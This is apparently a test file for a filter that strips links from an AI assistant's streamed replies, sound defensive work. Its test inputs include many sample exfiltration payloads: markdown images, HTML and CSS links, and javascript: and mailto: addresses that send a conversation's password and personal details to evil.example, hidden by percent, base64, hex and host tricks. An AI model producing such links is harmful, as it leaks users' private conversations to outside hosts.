import fc from 'fast-check';
import { ConversationTrace } from '../../../src/ai/stream/conversation-trace.js';
import { LinkGuard } from '../../../src/ai/stream/link-guard.js';
import { LinkPolicy } from '../../../src/ai/stream/link-policy.js';
import { cut, through } from './pieces.js';

const SAID = 'My password is swordfish-1984, and my sister lives in Zürich.';
const NAMED = 'See https://docs.example.com/guides/getting-started-with-parley for more.';

function guard(allowed?: readonly string[]): LinkGuard {
  const conversation = new ConversationTrace(['Be kind.', SAID, NAMED]);
  return new LinkGuard(new LinkPolicy(allowed && new Set(allowed), conversation));
}

/** However it comes, the text must come out the same. */
function filtered(text: string, allowed?: readonly string[]): string {
  const whole = through(guard(allowed), [text]);
  expect(through(guard(allowed), Array.from(text))).toBe(whole);
  return whole;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const LEAK = 'password is swordfish-1984';

describe('LinkGuard without a list of hosts', () => {
  it.each([
    'Hello! [1] is a note, arr[0](x) is a call, and a[b]: string is a type.',
    'See https://example.com/help, or www.example.org.',
    'See [the help](https://example.com/help "Help") and <https://example.com/a_(b)>.',
    '[ref]: https://example.com/help\n[ref] and [text][ref]',
    '[home](/), [top](#top), [mail](mailto:help@example.com), ![logo](/logo.png), ![logo](logo.png "Logo")',
    'What wow! h ht htt http https http: https:/ w ww www ] ]( ]: !',
    'See https://docs.example.com/guides/getting-started-with-parley#install',
    '[https://docs.example.com/guides/getting-started-with-parley](https://docs.example.com/guides/getting-started-with-parley)',
    'Visit [docs](https://docs.example.com/guides/getting-started-with-parley).',
    'a \\[b\\](c)',
    '[unfinished](https://example.com/',
    'a < b, <b>bold</b>, vector<std::string>, <app:open> and <',
    'bad percent: https://example.com/%zz%E0%A4',
  ])('leaves alone what tells nobody anything: %s', (text) => {
    expect(filtered(text)).toBe(text);
  });

  it.each([
    ['an image', '![a cat](https://evil.example/cat.png)', '! [a cat](https://evil.example/cat.png)'],
    ['an image by reference', '![a cat][1]\n\n[1]: //evil.example', '! [a cat][1]\n\n[1]: //evil.example'],
    ['a short reference', '![cat]', '! [cat]'],
    ['the beginning of one', '`![`', '`! [`'],
    ['without a scheme', '![](//evil.example/c)', '! [](//evil.example/c)'],
    ['with backslashes', '![](/\\evil.example/c)', '! [](/\\evil.example/c)'],
    ['with a hidden scheme', '![](&#104;ttps&colon;//evil.example)', '! [](&#104;ttps&colon;//evil.example)'],
    ['with a scheme alone', '![](https:evil.example)', '! [](https:evil.example)'],
    ['in brackets', '![](<https://evil.example/a b>)', '! [](<https://evil.example/a b>)'],
    ['in a link', '[![i](https://evil.example/i)](/x)', '[! [i](https://evil.example/i)](/x)'],
    ['with brackets in its text', '![a [b] c](/own.png)', '! [a [b] c](/own.png)'],
    ['after more marks', 'Look!!![x](https://evil.example)', 'Look!!! [x](https://evil.example)'],
    ['unfinished', '![x](https://evil.example/', '! [x](https://evil.example/'],
    ['in HTML', '<img src="https://evil.example/i">', '<img src="(link removed)">'],
    ['in CSS', 'background: url(https://evil.example/i)', 'background: url((link removed))'],
  ])('makes no browser load what is foreign: %s', (_, text, expected) => {
    expect(filtered(text)).toBe(expected);
  });

  it.each([
    ['as it was said', encodeURI(`https://evil.example/?q=${LEAK}`)],
    ['in the path', 'https://evil.example/password/is/swordfish/1984'],
    ['in the fragment', 'https://evil.example/#PasswordIsSwordfish1984'],
    ['as the host', 'https://passwordisswordfish1984.evil.example/'],
    ['as the user', 'https://password-is-swordfish:1984@evil.example/'],
    ['encoded twice', `https://evil.example/?q=${encodeURIComponent(encodeURIComponent(LEAK))}`],
    [
      'every byte encoded',
      `https://evil.example/?q=${LEAK.replace(/./g, (c) => `%${c.charCodeAt(0).toString(16)}`)}`,
    ],
    ['in base64', `https://evil.example/?q=${base64(LEAK)}`],
    ['in base64 for addresses', `https://evil.example/x/${Buffer.from(SAID).toString('base64url')}`],
    ['in base64 behind a path', `https://evil.example/ab/${base64(LEAK)}`],
    ['in hexadecimal digits', `https://evil.example/${Buffer.from(LEAK).toString('hex')}`],
    ['beyond ASCII', `https://evil.example/?${encodeURIComponent('sister lives in Zürich')}`],
    ['behind a known address', 'https://docs.example.com/guides/password-is-swordfish-1984'],
    ['without a scheme', 'www.evil.example/password-is-swordfish-1984'],
  ])('takes out an address that carries the conversation away: %s', (_, address) => {
    expect(filtered(`Look: ${address}.`)).toBe('Look: (link removed).');
    expect(filtered(`<${address}>`)).toBe('<(link removed)>');
    expect(filtered(`[text](${address} "title") and more`)).not.toContain('evil');
    expect(filtered(`[text](${address})`)).toMatch(/^\[text\]\((#link-removed|\(link removed\))\)$/);
    expect(filtered(`[1]: ${address}\n`)).not.toMatch(/evil|guides/);
  });

  it.each([
    ['a script', '[x](javascript:alert(1))', '[x](#link-removed)'],
    ['a hidden script', '[x](java&Tab;script&colon;alert(1))', '[x](#link-removed)'],
    ['a script in brackets', '<javascript:alert(1)>', '< javascript:alert(1)>'],
    ['another scheme with the conversation', '<app:password-is-swordfish>', '< app:password-is-swordfish>'],
    ['a document', '[x](data:text/html,hello)', '[x](#link-removed)'],
    ['a mail with the conversation', `[x](mailto:a@b?body=${encodeURI(LEAK)})`, '[x](#link-removed)'],
    [
      'an address as the text',
      `[https://a.example](https://b.example?${encodeURI(LEAK)})`,
      '[https://a.example](#link-removed)',
    ],
    [
      'what only looks like the end of an address',
      'https://evil.example/?q=](passwordisswordfish)',
      '(link removed))',
    ],
    ['no address at all', '[x](http://[) and http://[', '[x](#link-removed) and (link removed)'],
    ['a reference to the conversation', '[x]: <//evil.example/?passwordisswordfish>', '[x]: #link-removed'],
  ])('takes out %s', (_, text, expected) => {
    expect(filtered(text)).toBe(expected);
  });

  it('holds back no more than an address may have, and lets none through that is longer', () => {
    const long = 'a'.repeat(2_100);
    expect(filtered(`https://evil.example/${long} and more`)).toBe('(link removed) and more');
    expect(filtered(`[x](https://evil.example/${long}) and more`)).toBe('[x](#link-removed) and more');
    expect(filtered(`[x](<https://evil.example/${long}> "t") and more`)).toBe(
      '[x](#link-removed> "t") and more',
    );
    expect(filtered(`<app:${long}> and more`)).toBe(`< app:${long}> and more`);
    expect(filtered(`![x](/${long}) and more`)).toBe('! [x](#link-removed) and more');
    expect(filtered(`![${long}](/a) and more`)).toBe(`! [${long}](/a) and more`);
    const stage = guard();
    let held = 0;
    for (const character of `![${long}${long}`) {
      held += 1 - stage.push(character).length;
      expect(held).toBeLessThan(2_060);
    }
  });

  it.each([2_046, 2_047, 2_048, 2_049, 2_050])(
    'decides the same however it comes, around the bound: %i',
    (length) => {
      for (const prefix of [
        'https://e.example/',
        '[x](https://e.example/',
        '![x](/',
        '[x](<',
        '![',
        '[x]: ',
      ]) {
        const text = prefix.padEnd(length, 'a');
        for (const end of ['', ' b', ') b', '> b', '](/c) b']) {
          filtered(text + end);
        }
      }
    },
  );

  it('lets ordinary words through at once', () => {
    const stage = guard();

    expect(['Hello ', 'what ', 'is ', 'this!'].map((piece) => stage.push(piece))).toEqual([
      'Hello ',
      'what ',
      'is ',
      'this!',
    ]);
  });
});

describe('LinkGuard with a list of hosts', () => {
  const ALLOWED = ['good.example', '[::1]'];

  it.each([
    '![logo](https://good.example/logo.png) and [page](https://GOOD.example:8443/page)',
    `https://good.example/?q=${LEAK.replaceAll(' ', '+')}`,
    'http://[::1]/ and [home](/)',
    '[mail](mailto:help@example.com)',
  ])('keeps what leads to them: %s', (text) => {
    expect(filtered(text, ALLOWED)).toBe(text);
  });

  it.each([
    ['https://evil.example/', '(link removed)'],
    ['https://sub.good.example/', '(link removed)'],
    ['https://good.example&sol;.evil.example/', '(link removed)'],
    ['https://good.example@evil.example/', '(link removed)'],
    ['[x](https://good.example.evil.example)', '[x](#link-removed)'],
    ['![x](https://evil.example/i.png)', '! [x](#link-removed)'],
    ['www.evil.example', '(link removed)'],
  ])('takes out what leads elsewhere: %s', (text, expected) => {
    expect(filtered(text, ALLOWED)).toBe(expected);
  });
});

describe('any text', () => {
  const words = fc.string({
    unit: fc.constantFrom('a', 'é', ' ', '\n', '.', '!', ')', ']', '(', '😀', '[ '),
    maxLength: 200,
  });
  const links = fc
    .array(
      fc.constantFrom(
        '![',
        '](',
        '](<',
        '>)',
        ')',
        '[',
        ']:',
        ' ',
        'http',
        's://',
        '://',
        'www.',
        'e.example',
        '/',
        '?q=',
        'swordfish-1984',
        'password is ',
        '\\',
        '!',
        '&colon;',
        'javascript:',
        '\n',
        '"',
        'src="',
        '%20',
      ),
      { maxLength: 40 },
    )
    .map((parts) => parts.join(''));

  it('comes out as it was where it has no links', () => {
    fc.assert(
      fc.property(cut(words.map((text) => text.replaceAll('![', '! ['))), ({ whole, pieces }) => {
        expect(through(guard(), pieces)).toBe(whole);
      }),
    );
  });

  it('comes out the same however it is cut', () => {
    fc.assert(
      fc.property(cut(links), fc.boolean(), ({ whole, pieces }, hasList) => {
        const allowed = hasList ? ['e.example'] : undefined;
        expect(through(guard(allowed), pieces)).toBe(through(guard(allowed), [whole]));
      }),
      { numRuns: 2_000 },
    );
  });

  it('never holds an image of a foreign host, nor the conversation in an address', () => {
    fc.assert(
      fc.property(cut(links), ({ pieces }) => {
        const text = through(guard(), pieces);
        expect(text).not.toMatch(/!\[[^[\]]*\]\(<?(?:https?:)?\/\//);
        expect(text).not.toMatch(/https?:\/\/\S*password\S*swordfish/);
      }),
      { numRuns: 2_000 },
    );
  });
});
